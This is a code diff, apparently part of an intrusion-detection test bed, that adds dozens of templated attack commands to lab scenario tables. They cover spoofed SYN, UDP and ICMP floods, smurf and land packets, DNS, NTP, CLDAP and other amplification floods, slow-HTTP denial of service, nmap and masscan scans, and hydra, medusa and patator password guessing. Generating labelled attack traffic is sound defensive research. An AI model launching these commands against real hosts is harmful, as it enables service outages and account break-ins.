@@ -94,6 +94,19 @@ conn6-bare         attacker 4.0  {attack} connect {src6} {dst6} --port 80 --rate
 conn-wrk           attacker 4.0  held wrk -t 1 -c 60 -d {i} -H Connection:close http://{dst}/
 http-siege         attacker 4.0  held ~siege -q -b -c 50 -t {i}S http://{dst}/
 mixed-t50          attacker 3.0  held ~t50 --flood --saddr {src} --dport 80 {dst}
+syn-quiet          attacker 3.0  hping3 -q -I {dev} -a {src} -S -p 80 -i u700 -c {n@1400} {quiet}.7
+syn-filtered       attacker 3.0  hping3 -q -I {dev} -a {src} -S -p 8443 -i u500 -c {n@2000} {filtered}
+udp-quiet          attacker 3.0  hping3 -q -I {dev} -a {src} -2 -p 9999 -d 200 -i u500 -c {n@2000} {quiet}.8
+icmp-quiet         attacker 3.0  hping3 -q -I {dev} -a {src} -1 -d 56 -i u700 -c {n@1400} {quiet}.9
+smurf6-one         attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 500usec -A {src6} -B {dst6} -b {dmac} -t icmp6 type=129 -p 64
+smurf6-one-large   attacker 3.0  held mausezahn -6 {dev} -q -c 0 -d 250usec -A {src6} -B {dst6} -b {dmac} -t icmp6 type=129 -p 900
+land-udp           attacker 3.0  hping3 -q -I {dev} -a {own} -2 -s 7 -k -p 7 -d 30 -i u500 -c {n@2000} {own}
+land6-udp          attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 500usec -A {own6} -B {own6} -b {dmac} -t udp dp=7,sp=7 -p 30
+land6-slower       attacker 4.0  mausezahn -6 {dev} -q -c 0 -d 3000usec -A {own6} -B {own6} -b {dmac} -t tcp dp=139,sp=139,flags=syn
+conn-ab-10         attacker 3.0  ~ab -q -r -s 2 -B {src} -c 10 -n 1000000 -t {i} http://{dst}/1000
+conn-ab-100        attacker 3.0  ~ab -q -r -s 2 -B {src} -c 100 -n 1000000 -t {i} http://{dst}/20000
+conn-httperf       attacker 3.0  ~httperf --hog --server {dst} --uri / --rate 1300 --num-conns {n@1300}
+amp-dns-frag-one   attacker 3.0  hping3 -q -I {dev} -a {src} -2 -s 53 -k -p 40000 -d 3000 -m 1480 -i u700 {dst}
 ";
 
 /// As many, from forged addresses: a /24 (/112) of its own each, or the Internet.
@@ -116,6 +129,20 @@ amp-ntp            attacker 3.0  mausezahn {dev} -q -c 0 -d 500usec -A {net}.0/2
 amp-ssdp           attacker 3.0  mausezahn {dev} -q -c 0 -d 300usec -A {net}.0/24 -B {dst} -b {dmac} -t udp sp=1900,dp=1024-60000 -p 310
 amp-memcached      attacker 3.0  held trafgen --dev {dev} -P 1 -n {n@4000} -t 250us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=11211,dp=80),drnd(1400)}
 amp6-dns           attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 500usec -A {net6}:0/112 -B {dst6} -b {dmac} -t udp sp=53,dp=33000 -p 1200
+forged-syn-quiet   attacker 3.0  trafgen --dev {dev} -P 1 -n {n@1400} -t 700us {eth(da={quietmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={quiet}.7),tcp(sp=drnd(),dp=80,syn)}
+random-syn-ports   attacker 3.0  hping3 -q -I {dev} --rand-source -S -p ++1 -i u500 -c {n@2000} {own}
+smurf6-many        attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 400usec -A {net6}:0/112 -B {dst6} -b {dmac} -t icmp6 type=129 -p 64
+amp-dns-frag       attacker 3.0  hping3 -q -I {dev} --rand-source -2 -s 53 -k -p 33000 -d 3000 -m 1480 -i u700 {own}
+amp-dns-frag-tail  attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst},frag=185,prot=17),drnd(900)}
+amp-dns-frag-large attacker 3.0  held hping3 -q -I {dev} --rand-source -2 -s 53 -k -p 51000 -d 4000 -m 1480 -i u1000 {own}
+amp-dns-small      attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=53,dp=drnd()),drnd(500)}
+amp-cldap          attacker 3.0  mausezahn {dev} -q -c 0 -d 500usec -A {net}.0/24 -B {dst} -b {dmac} -t udp sp=389,dp=1024-60000 -p 1400
+amp-isakmp         attacker 3.0  trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=500,dp=500),drnd(220)}
+amp-snmp           attacker 3.0  trafgen --dev {dev} -P 1 -n {n@1400} -t 700us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=161,dp=44000),drnd(900)}
+amp-mssql          attacker 3.0  mausezahn {dev} -q -c 0 -d 400usec -A {net}.0/24 -B {dst} -b {dmac} -t udp sp=1434,dp=80 -p 640
+amp-coap           attacker 3.0  held mausezahn {dev} -q -c 0 -d 500usec -A {net}.0/24 -B {dst} -b {dmac} -t udp sp=5683,dp=1024-60000 -p 130
+amp-chargen        attacker 3.0  held trafgen --dev {dev} -P 1 -n {n@2000} -t 500us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),udp(sp=19,dp=80),drnd(1020)}
+amp6-ntp           attacker 3.0  mausezahn -6 {dev} -q -c 0 -d 300usec -A {net6}:0/112 -B {dst6} -b {dmac} -t udp sp=123,dp=1024-60000 -p 440
 ";
 
 /// Denial of service by fewer packets: slow requests, or just below a flood.
@@ -131,6 +158,20 @@ slow-post          attacker 12.0 slowhttptest -B -c 300 -r 60 -i 3 -l {i} -u htt
 slow-read          attacker 12.0 held slowhttptest -X -c 300 -r 60 -w 512 -y 1024 -n 5 -z 32 -l {i} -u http://{dst}/
 conn-hold          attacker 8.0  {attack} hold {src} {dst} --port 80 --rate 200 --seconds {s}
 conn-hold-ssh      attacker 8.0  held {attack} hold {src} {dst} --port 22 --rate 60 --seconds {s}
+syn-50             attacker 6.0  hping3 -q -I {dev} -a {src} -S -p 80 -i u20000 -c {n@50} {dst}
+syn-100            attacker 5.0  hping3 -q -I {dev} -a {src} -S -p 443 -i u10000 -c {n@100} {dst}
+syn-quiet-200      attacker 5.0  hping3 -q -I {dev} -a {src} -S -p 443 -i u5000 -c {n@200} {quiet}.7
+syn-filtered-80    attacker 5.0  held hping3 -q -I {dev} -a {src} -S -p 25 -i u12500 -c {n@80} {filtered}
+syn6-150           attacker 5.0  mausezahn -6 {dev} -q -c 0 -d 6000usec -A {src6} -B {dst6} -b {dmac} -t tcp dp=22,sp=1024-60000,flags=syn
+forged-syn-50      attacker 6.0  trafgen --dev {dev} -P 1 -n {n@50} -t 20000us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),tcp(sp=drnd(),dp=22,syn)}
+forged-syn-150     attacker 5.0  trafgen --dev {dev} -P 1 -n {n@150} -t 6600us {eth(da={dmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={dst}),tcp(sp=drnd(),dp=443,syn)}
+forged-quiet-100   attacker 5.0  trafgen --dev {dev} -P 1 -n {n@100} -t 10000us {eth(da={quietmac}),ipv4(sa={net}.0,sa[3]=drnd(),da={quiet}.7),tcp(sp=drnd(),dp=80,syn)}
+random-syn-100     attacker 5.0  hping3 -q -I {dev} --rand-source -S -p 22 -i u10000 -c {n@100} {own}
+random-syn-250     attacker 5.0  held hping3 -q -I {dev} --rand-source -S -p 80 -i u4000 -c {n@250} {own}
+udp-150            attacker 5.0  hping3 -q -I {dev} -a {src} -2 -p 5060 -d 300 -i u6600 -c {n@150} {dst}
+amp-ntp-300        attacker 5.0  mausezahn {dev} -q -c 0 -d 3300usec -A {net}.0/24 -B {dst} -b {dmac} -t udp sp=123,dp=80 -p 468
+amp-dns-frag-300   attacker 5.0  hping3 -q -I {dev} --rand-source -2 -s 53 -k -p 33000 -d 2400 -m 1480 -i u3300 {own}
+conn-hold-20       attacker 8.0  {attack} hold {src} {dst} --port 80 --rate 20 --seconds {s}
 ";
 
 /// At least 20 ports or hosts a second.
@@ -175,6 +216,45 @@ sweep-t5           attacker 6.0  nmap -n -sn -PE --disable-arp-ping -T5 10.83.4.
 sweep-all          attacker 6.0  nmap -n -sn -PE -PP -PS443 -PA80 --disable-arp-ping -T4 10.83.4.1-60
 sweep-fping        attacker 5.0  held ~fping -q -S {src} -r 0 -i 20 -t 300 -g 10.83.4.1 10.83.4.60
 sweep6             attacker 6.0  nmap -6 -n -sn -PE --disable-arp-ping -T4 --min-rate 40 -S {src6} -e {dev} fd83::4:0/122
+quiet-syn          attacker 4.0  nmap -n -Pn -sS -F --min-rate 100 --max-retries 0 {quiet}.7
+quiet-syn-fast     attacker 3.0  nmap -n -Pn -sS -p 1-500 --min-rate 600 --max-retries 0 {quiet}.9
+quiet-syn-again    attacker 6.0  nmap -n -Pn -sS -p 1-400 --min-rate 80 --max-retries 3 {quiet}.11
+quiet-syn-t5       attacker 5.0  nmap -n -Pn -sS -p 1-5000 -T5 --min-rate 1000 {quiet}.12
+quiet-hosts        attacker 4.0  nmap -n -Pn -sS -p 22,80,443 --min-rate 60 --max-retries 0 {quiet}.0/25
+quiet-hosts-fast   attacker 3.0  nmap -n -Pn -sS -p 445 --min-rate 500 --max-retries 0 {quiet}.0/24
+quiet-hosts-few    attacker 5.0  nmap -n -Pn -sS -F --min-rate 150 --max-retries 1 {quiet}.1-6
+quiet-connect      attacker 5.0  nmap -n -Pn -sT -F --min-rate 60 --max-retries 0 {quiet}.7
+quiet-fin          attacker 4.0  nmap -n -Pn -sF -F --min-rate 60 --max-retries 0 {quiet}.7
+quiet-udp          attacker 4.0  nmap -n -Pn -sU -F --min-rate 60 --max-retries 0 {quiet}.7
+quiet-udp-hosts    attacker 4.0  nmap -n -Pn -sU -p 161 --min-rate 100 --max-retries 0 {quiet}.0/24
+quiet-sweep        attacker 4.0  nmap -n -sn -PE --min-rate 80 --max-retries 0 {quiet}.0/24
+quiet-sweep-syn    attacker 4.0  nmap -n -sn -PS22,443 -PA80 --min-rate 80 --max-retries 0 {quiet}.0/24
+quiet-hping        attacker 4.0  hping3 -q -I {dev} -a {src} -S -p ++20 -i u10000 -c {n@100} {quiet}.7
+quiet-trafgen      attacker 4.0  trafgen --dev {dev} -P 1 -n {n@200} -t 5000us {eth(da={quietmac}),ipv4(sa={src},da={quiet}.7),tcp(sp=50123,dp=drnd(),syn)}
+quiet-trafgen-wide attacker 4.0  trafgen --dev {dev} -P 1 -n {n@100} -t 10000us {eth(da={quietmac}),ipv4(sa={src},da={quiet}.0,da[3]=drnd()),tcp(sp=40321,dp=23,syn)}
+quiet6-syn         attacker 4.0  nmap -6 -n -Pn -sS -F --min-rate 80 --max-retries 0 -S {src6} -e {dev} {quiet6}:7
+quiet-masscan      attacker 4.0  held masscan {quiet}.0/24 -p80 --rate 300 --wait 1 --adapter-ip {src} --router-mac {quietmac} -e {dev}
+quiet-masscan-one  attacker 4.0  held masscan {quiet}.7 -p1-1000 --rate 500 --wait 1 --adapter-ip {src} --router-mac {quietmac} -e {dev}
+quiet-nping        attacker 4.0  held nping -q --tcp --flags syn -c 1 -p 1-400 --rate 80 -S {src} --dest-mac {quietmac} -e {dev} {quiet}.7
+quiet-zmap         attacker 4.0  held zmap -q -p 443 -i {dev} -S {src} -G {quietmac} -r 100 -c 1 -b /dev/null -o /dev/null {quiet}.0/24
+quiet-fping        attacker 4.0  held ~fping -q -S {src} -r 0 -i 10 -t 300 -g {quiet}.0/25
+filtered-syn       attacker 4.0  nmap -n -Pn -sS -F --min-rate 60 --max-retries 1 {filtered}
+filtered-syn-fast  attacker 3.0  nmap -n -Pn -sS -p 1-1000 --min-rate 700 --max-retries 0 {filtered}
+filtered-connect   attacker 5.0  nmap -n -Pn -sT -F --min-rate 60 {filtered}
+filtered-version   attacker 7.0  nmap -n -Pn -sV --version-light -p 20-120,443 --min-rate 60 --max-retries 0 {filtered}
+filtered-udp       attacker 4.0  nmap -n -Pn -sU -F --min-rate 50 --max-retries 0 {filtered}
+filtered-ack       attacker 4.0  held nmap -n -Pn -sA -F --min-rate 60 --max-retries 0 {filtered}
+filtered-masscan   attacker 4.0  held masscan {filtered} -p1-1500 --rate 300 --wait 1 --adapter-ip {src} --router-mac {dmac} -e {dev}
+short-ports-20     attacker 1.5  nmap -n -Pn -sS --top-ports 20 -T4 {dst}
+short-ports-100    attacker 1.5  nmap -n -Pn -sS -F -T5 {dst}
+short-connect-30   attacker 1.5  nmap -n -Pn -sT --top-ports 30 -T5 {dst}
+short-hosts        attacker 1.5  nmap -n -Pn -sS -p 80 -T5 --min-rate 300 10.83.4.1-50
+short-hosts-closed attacker 1.5  nmap -n -Pn -sS -p 8080 -T5 --min-rate 200 10.83.4.1-40
+short-sweep        attacker 1.5  nmap -n -sn -PE --disable-arp-ping --min-rate 300 10.83.4.1-60
+short-udp          attacker 1.5  nmap -n -Pn -sU --top-ports 30 --min-rate 100 --max-retries 0 {dst}
+short-quiet        attacker 2.0  nmap -n -Pn -sS --top-ports 40 --min-rate 400 --max-retries 0 {quiet}.5
+short-masscan      attacker 1.5  held masscan {dst} -p1-100 --rate 1000 --wait 0 --adapter-ip {src} --router-mac {dmac} -e {dev}
+short-now-and-then attacker 8.0  {traffic} repeat --any-code --seconds {s} --rate 1 -- nmap -n -Pn -sS --top-ports 25 -T4 {dst}
 ";
 
 /// As nmap's T2 does it, or slower still.
@@ -191,6 +271,18 @@ slow-sweep-10      attacker 7.0  nmap -n -sn -PE --disable-arp-ping --max-rate 1
 slow-sweep-2       attacker 25.0 held ~fping -q -S {src} -r 0 -i 500 -t 300 -g 10.83.4.1 10.83.4.60
 slow-banners       attacker 15.0 {attack} banners {src} {dst} --rate 3 --seconds {s}
 slow6-syn-t2       attacker 25.0 held nmap -6 -n -Pn -sS -p 1-60 -T2 -S {src6} -e {dev} {dst6}
+quiet-syn-t2       attacker 20.0 nmap -n -Pn -sS -p 1-60 -T2 {quiet}.5
+quiet-syn-t3       attacker 9.0  nmap -n -Pn -sS -F -T3 {quiet}.3
+quiet-syn-t4       attacker 9.0  nmap -n -Pn -sS -p 1-1000 -T4 {quiet}.4
+quiet-udp-t4       attacker 8.0  nmap -n -Pn -sU -F -T4 {quiet}.6
+quiet-hosts-t3     attacker 8.0  nmap -n -Pn -sS -p 3389 -T3 {quiet}.0/24
+quiet-sweep-t4     attacker 8.0  nmap -n -sn -PE -T4 {quiet}.0/25
+quiet-sweep-2      attacker 20.0 nmap -n -sn -PE --max-rate 2 --max-retries 0 {quiet}.0/26
+quiet-syn-5        attacker 12.0 nmap -n -Pn -sS -p 1-300 --max-retries 0 --max-rate 5 {quiet}.9
+quiet-masscan-8    attacker 12.0 held masscan {quiet}.0/24 -p22,445 --rate 8 --wait 1 --adapter-ip {src} --router-mac {quietmac} -e {dev}
+quiet-ncat         attacker 12.0 ~nc.openbsd -n -v -z -w 1 -s {src} {quiet}.8 20-200
+filtered-syn-t3    attacker 9.0  nmap -n -Pn -sS -F -T3 {filtered}
+filtered-syn-t4    attacker 8.0  held nmap -n -Pn -sS -p 1-1000 -T4 {filtered}
 ";
 
 /// Passwords, several at once.
@@ -212,6 +304,22 @@ guess-http-medusa  attacker 8.0  held ~medusa -h {dst} -u clerk -P {words} -M ht
 guess-redis        attacker 8.0  {attack} guess-redis {src} {dst} --rate 20 --seconds {s}
 guess-postgres     attacker 8.0  ~hydra -I -q -t 4 -l postgres -P {words} postgres://{dst}
 guess6-ssh         attacker 10.0 ~hydra -I -q -6 -t 4 -l clerk -P {words} ssh://[{dst6}]
+guess-ftp-32       attacker 8.0  ~hydra -I -q -t 32 -L {words} -p summer ftp://{dst}
+guess-ftp-once     attacker 8.0  {attack} guess-ftp {src} {dst} --rate 5 --tries 1 --seconds {s}
+guess-ftp-thrice   attacker 8.0  {attack} guess-ftp {src} {dst} --rate 2 --tries 3 --seconds {s}
+guess-ftp-one-try  attacker 8.0  ~ncrack -g CL=4,at=1,cd=200ms --user clerk -P {words} ftp://{dst}
+guess-ftp-patator  attacker 8.0  ~patator ftp_login host={dst} user=clerk password=FILE0 0={words} -t 6
+guess6-ftp         attacker 8.0  ~hydra -I -q -6 -t 6 -l clerk -P {words} ftp://[{dst6}]
+guess-ssh-8        attacker 8.0  ~hydra -I -q -t 8 -l admin -P {words} ssh://{dst}
+guess-ssh-patator  attacker 8.0  ~patator ssh_login host={dst} user=clerk password=FILE0 0={words} -t 4
+guess-http-once    attacker 8.0  {attack} guess-http {src} {dst} --rate 20 --seconds {s}
+guess-http-keep    attacker 8.0  {attack} guess-http {src} {dst} --rate 4 --tries 6 --seconds {s}
+guess-http-ncrack  attacker 8.0  ~ncrack -g CL=3,at=1,cd=200ms --user clerk -P {words} http://{dst},path=/private/
+guess-http-patator attacker 8.0  held ~patator http_fuzz url=http://{dst}/private/ resolve={dst}:{dst} user_pass=clerk:FILE0 0={words} -t 4
+guess-telnet-8     attacker 8.0  ~hydra -I -q -t 8 -l root -P {words} telnet://{dst}
+guess-telnet-many  attacker 8.0  {attack} guess-telnet {src} {dst} --rate 3 --tries 2 --seconds {s}
+guess-telnet-pat   attacker 8.0  held ~patator telnet_login host={dst} inputs=clerk\\nFILE0 0={words} prompt_re=login:|Password: -t 4
+guess-postgres-16  attacker 8.0  ~hydra -I -q -t 16 -l postgres -P {words} postgres://{dst}
 ";
 
 /// Passwords, one after the other, one every second or two.
@@ -223,6 +331,13 @@ slow-guess-http    attacker 30.0 {attack} guess-http {src} {dst} --rate 1 --seco
 slow-guess-http-05 attacker 30.0 held {attack} guess-http {src} {dst} --rate 0.5 --seconds {s}
 slow-guess-redis   attacker 30.0 {attack} guess-redis {src} {dst} --rate 1 --seconds {s}
 slow-guess-ssh-05  attacker 30.0 held ~medusa -h {dst} -u root -P {words} -M ssh -t 1
+slow-guess-ftp-05  attacker 25.0 {attack} guess-ftp {src} {dst} --rate 0.5 --tries 1 --seconds {s}
+slow-guess-ftp-3   attacker 25.0 {attack} guess-ftp {src} {dst} --rate 0.4 --tries 3 --seconds {s}
+slow-guess-http-2  attacker 20.0 {attack} guess-http {src} {dst} --rate 2 --seconds {s}
+slow-guess-curl    attacker 20.0 {traffic} repeat --any-code --seconds {s} --rate 1.5 -- curl -sS -o /dev/null --interface {src} -u clerk:summer http://{dst}/private/
+slow-guess-ssh-one attacker 25.0 {traffic} repeat --any-code --seconds {s} --rate 1 -- sshpass -p summer ssh -F /dev/null -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts=1 -b {src} clerk@{dst} true
+slow-guess-tel-05  attacker 25.0 {attack} guess-telnet {src} {dst} --rate 0.5 --tries 2 --seconds {s}
+slow-guess-ftp-med attacker 25.0 held ~medusa -h {dst} -u clerk -P {words} -M ftp -t 1
 ";
 
 /// What of u2r is a flow at all: the victim calls the attacker and is typed to,
